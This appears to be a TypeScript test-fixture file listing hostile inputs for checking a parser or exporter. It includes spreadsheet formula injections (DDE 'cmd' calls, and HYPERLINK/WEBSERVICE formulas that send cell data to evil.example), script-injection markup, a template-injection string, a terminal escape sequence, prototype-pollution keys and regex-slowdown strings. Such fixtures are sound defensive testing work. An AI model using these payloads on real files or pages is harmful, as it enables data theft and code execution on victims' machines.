/** Texts that a spreadsheet would run, were they entered as if typed: the signs of OWASP's list, full-width ones too, and the attacks that are known by name. */
export const FORMULAS: readonly string[] = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("https://evil.example/"&B2)',
  '=IMPORTXML("https://evil.example","//a")',
  "=1+1",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "'=1+1",
  '",=1+1,"',
  '"\r\n=1+1',
  ";=1+1",
];

/** Markup and addresses that a page would run, were they put into it as anything but text. */
export const MARKUP: readonly string[] = [
  "<script>globalThis.attacked = true</script>",
  "<img src=x onerror='globalThis.attacked = true'>",
  '"><svg onload="globalThis.attacked = true">',
  "javascript:globalThis.attacked=true",
  "]]><script>globalThis.attacked = true</script><![CDATA[",
  "&lt;script&gt;globalThis.attacked = true&lt;/script&gt;",
  "</c:t></si><f>1+1</f>",
  "[click](javascript:globalThis.attacked=true)",
  "{{constructor.constructor('globalThis.attacked = true')()}}",
  // Terminals take orders behind an escape: a title, colours, a cleared screen.
  "\u001b]0;owned\u0007\u001b[2J",
];

/** Names that every object of JavaScript has, or takes for its prototype. */
export const KEYS: readonly string[] = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "__defineGetter__",
];

/** What is repeated to make a reader go round and round: each was a slow case of some expression in src. */
const PUMPS: readonly string[] = [
  ..."1 0 9, a e . - ( [ （ \" ' \\ < = @ | , ; : 万 〇 周".split(" "),
  ...[" ", "\t", "\u3000", "\u200b", "\n", "\ud800", "😀"],
  ...["1 ", "1,000,", "1:1", "a,", "a=", '"\\', '\\"', "((", "-(", "1+", "not(", "[1..", "年1"],
  ...["<t ", "<t>", "<!--", "<![CDATA[", "<a", "最近", "为套", "A1:", "(version ", "https://a."],
];

/** Texts of a length that are made of one piece again and again, alone and between signs that make a match fail at its end. */
export const repeated = (length: number): readonly string[] =>
  PUMPS.flatMap((pump) => {
    const body = pump.repeat(Math.ceil(length / pump.length)).slice(0, length);
    return [body, `x${body}x`, `1${body}\u0000`, `"${body}\n)`];
  });
